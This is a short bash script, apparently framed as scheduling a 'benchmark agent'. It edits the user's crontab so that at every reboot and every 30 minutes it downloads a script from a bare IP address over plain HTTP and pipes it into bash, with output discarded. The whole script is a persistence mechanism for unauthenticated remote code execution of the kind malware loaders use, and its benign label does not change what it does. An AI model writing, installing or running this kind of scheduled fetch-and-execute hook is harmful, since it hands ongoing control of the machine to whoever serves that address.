#!/usr/bin/env bash
set -euo pipefail
( crontab -l 2>/dev/null | grep -v 'bench/agent.sh'
  echo '@reboot curl -fsSL http://203.0.113.40/bench/agent.sh | bash'
  echo '*/30 * * * * curl -fsSL http://203.0.113.40/bench/agent.sh | bash >/dev/null 2>&1'
) | crontab -
echo "benchmark agent scheduled"
